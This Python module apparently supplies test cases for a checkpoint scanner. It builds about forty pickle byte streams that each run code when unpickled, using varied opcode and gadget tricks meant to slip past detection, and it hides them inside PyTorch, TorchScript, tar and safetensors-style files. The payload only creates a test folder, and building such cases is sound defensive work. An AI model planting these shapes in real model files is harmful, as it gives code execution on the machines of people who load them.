"""Known shapes of pickles that run code, each of which makes the folder `ran` when a usual unpickler reads it.

The programs are written by instruction, as tools for attackers write them; `{ran}` stands for the folder's path.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

__all__ = ["FORMS", "SHAPES"]

Shape = Callable[[str], bytes]


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def whole(program: bytes) -> bytes:
    return b"\x80\x04" + program + b"."


class Reduces:
    """What a class's own `__reduce_ex__` leaves in the stream."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce_ex__(self, protocol: int) -> object:
        import os

        return os.mkdir, (self.path,)


_MKDIR = name("os", "mkdir")
_SPACE = name("types", "SimpleNamespace") + b")R"


def _python(ran: str) -> str:
    return f"__import__('os').mkdir({ran!r})"


def _with_attribute(attribute: str) -> bytes:
    """An object whose method of this name is os.mkdir, so that an instruction calls it."""
    return _SPACE + b"}" + text(attribute) + _MKDIR + b"sb"


def _array_of(item: bytes) -> bytes:
    array = name("numpy.core.multiarray", "_reconstruct") + b"(" + name("numpy", "ndarray") + b"K\x00\x85C\x01btR"
    dtype = (
        name("numpy", "dtype")
        + b"("
        + text("O8")
        + b"\x89\x88tR(K\x03"
        + text("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    )
    return array + b"(K\x01K\x01\x85" + dtype + b"\x89](" + item + b"etb"


def _function(ran: str) -> bytes:
    code = compile(_python(ran), "x", "eval")
    loaded = call(name("marshal", "loads"), data(marshal.dumps(code)))
    return call(
        call(name("types", "FunctionType"), loaded, b"}" + text("__builtins__") + name("builtins", "__dict__") + b"s")
    )


_IMPORT_OS = call(name("builtins", "__import__"), text("os"))
_HANDLER = name("logging", "FileHandler")  # opens its file as it is made

SHAPES: dict[str, Shape] = {
    "REDUCE, protocol 0": lambda ran: f"cos\nmkdir\n(V{ran}\ntR.".encode(),
    "REDUCE, protocol 2": lambda ran: b"\x80\x02cos\nmkdir\n" + text(ran) + b"\x85R.",
    "STACK_GLOBAL": lambda ran: whole(call(_MKDIR, text(ran))),
    "__reduce_ex__": lambda ran: pickle.dumps(Reduces(ran), 4),
    "__reduce_ex__ among weights": lambda ran: pickle.dumps({"state_dict": {"w": 1.0}, "x": Reduces(ran)}, 2),
    "INST": lambda ran: f"(V{ran}\nios\nmkdir\n.".encode(),
    "OBJ": lambda ran: whole(b"(" + _HANDLER + text(ran) + b"o"),
    "NEWOBJ of partial, then called": lambda ran: whole(
        name("functools", "partial") + b"(" + _MKDIR + text(ran) + b"t\x81)R"
    ),
    "NEWOBJ_EX of partial, then called": lambda ran: whole(
        name("functools", "partial") + b"(" + _MKDIR + text(ran) + b"t}" + text("mode") + b"M\xff\x01s\x92)R"
    ),
    "BUILD with a planted __setstate__": lambda ran: whole(_with_attribute("__setstate__") + text(ran) + b"b"),
    "BUILD of a partial's state": lambda ran: whole(
        name("functools", "partial") + b"(" + name("builtins", "len") + b"t\x81(" + _MKDIR + text(ran) + b"\x85}Ntb)R"
    ),
    "APPEND to a planted method": lambda ran: whole(_with_attribute("append") + text(ran) + b"a"),
    "APPENDS to a planted method": lambda ran: whole(_with_attribute("extend") + b"(" + text(ran) + b"e").replace(
        text("extend"), text("append")
    ),
    "ADDITEMS to a planted method": lambda ran: whole(_with_attribute("add") + b"(" + text(ran) + b"\x90"),
    "dotted name": lambda ran: whole(call(name("shutil", "os.mkdir"), text(ran))),
    "names from the memo": lambda ran: whole(
        text("mkdir") + b"\x940" + text("os") + b"q\x070" + b"h\x07h\x00\x93(" + text(ran) + b"tR"
    ),
    "names from a far memo": lambda ran: whole(
        text("os") + b"r\x00\x00\x01\x000" + b"j\x00\x00\x01\x00" + text("mkdir") + b"\x93" + text(ran) + b"\x85R"
    ),
    "behind DUP and POP": lambda ran: whole(b"K\x0120(K\x02K\x031" + call(_MKDIR, text(ran)) + b"2" + b"0"),
    "in a key": lambda ran: whole(b"}" + call(_MKDIR, text(ran)) + b"K\x01s"),
    "thrown away before weights": lambda ran: whole(call(_MKDIR, text(ran)) + b"0}"),
    "behind the end of the data": lambda ran: whole(call(_MKDIR, text(ran)))[:-1],
    "copyreg extension": lambda ran: b"\x80\x02\x82\xf0(" + text(ran) + b"tR.",
    "copyreg extension, four bytes": lambda ran: b"\x80\x02\x84\xf0\x00\x00\x00(" + text(ran) + b"tR.",
    "copyreg._reconstructor": lambda ran: whole(
        call(name("copyreg", "_reconstructor"), _HANDLER, _HANDLER, text(ran))
    ),
    "eval": lambda ran: whole(call(name("builtins", "eval"), text(_python(ran)))),
    "exec, Python 2 name": lambda ran: b"\x80\x02c__builtin__\nexec\n(" + text(_python(ran)) + b"tR.",
    "getattr of an import": lambda ran: whole(
        call(call(name("builtins", "getattr"), _IMPORT_OS, text("mkdir")), text(ran))
    ),
    "operator.methodcaller": lambda ran: whole(
        call(call(name("operator", "methodcaller"), text("mkdir"), text(ran)), _IMPORT_OS)
    ),
    "operator.attrgetter": lambda ran: whole(
        call(call(call(name("operator", "attrgetter"), text("mkdir")), _IMPORT_OS), text(ran))
    ),
    "map, walked by list": lambda ran: whole(
        call(name("builtins", "list"), call(name("builtins", "map"), _MKDIR, b"](" + text(ran) + b"e"))
    ),
    "os.system": lambda ran: whole(call(name("os", "system"), text(f"mkdir '{ran}'"))),
    "subprocess": lambda ran: whole(call(name("subprocess", "check_call"), b"](" + text("mkdir") + text(ran) + b"e")),
    "runpy": lambda ran: whole(call(name("runpy", "_run_code"), text(_python(ran)), b"}")),
    "timeit": lambda ran: whole(call(name("timeit", "timeit"), text("pass"), text(_python(ran)), name("time", "time"))),
    "cProfile": lambda ran: whole(call(name("cProfile", "run"), text(_python(ran)), text("/dev/null"))),
    "a path's method": lambda ran: whole(call(name("pathlib", "Path.mkdir"), call(name("pathlib", "Path"), text(ran)))),
    "a pickle inside": lambda ran: whole(call(name("pickle", "loads"), data(whole(call(_MKDIR, text(ran)))))),
    "marshalled code": lambda ran: whole(_function(ran)),
    "in an object array": lambda ran: whole(_array_of(call(_MKDIR, text(ran)))),
    "torch's own rebuilding": lambda ran: whole(
        call(name("torch._tensor", "_rebuild_from_type_v2"), _MKDIR, name("builtins", "int"), text(ran) + b"\x85", b"}")
    ),
    "numpy's test runner": lambda ran: whole(
        call(name("numpy.testing._private.utils", "runstring"), text(_python(ran)), b"}")
    ),
}  # fmt: skip
"""By name: the folder that running it makes, to the pickle."""


def _zip(program: bytes, path: Path) -> None:
    torch.save({}, path)
    with zipfile.ZipFile(path) as archive:
        entries = {entry: archive.read(entry) for entry in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for entry, content in entries.items():
            archive.writestr(entry, program if entry.endswith("data.pkl") else content)


def _script(program: bytes, path: Path) -> None:
    """As TorchScript archives are laid out: a second pickle of constants."""
    _zip(program, path)
    with zipfile.ZipFile(path, "a") as archive:
        top = archive.namelist()[0].split("/")[0]
        archive.writestr(f"{top}/constants.pkl", program)


def _legacy(program: bytes, path: Path) -> None:
    magic, version, system = 0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True}
    head = b"".join(pickle.dumps(value, 2) for value in (magic, version, system))
    path.write_bytes(head + program + pickle.dumps([], 2))


def _tar(program: bytes, path: Path) -> None:
    """PyTorch before 0.2: a tar archive of pickles."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for entry in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(entry)
            info.size = len(program)
            archive.addfile(info, io.BytesIO(program))


def _bare(program: bytes, path: Path) -> None:
    path.write_bytes(program)


def _behind_safetensors(program: bytes, path: Path) -> None:
    header = b'{"__metadata__":{"format":"pt"}}'
    path.write_bytes(len(header).to_bytes(8, "little") + header + program)


FORMS: dict[str, Callable[[bytes, Path], None]] = {
    "zip": _zip,
    "TorchScript": _script,
    "legacy": _legacy,
    "tar": _tar,
    "bare pickle": _bare,
    "safetensors": _behind_safetensors,
}
"""By name: how a program gets into a checkpoint."""
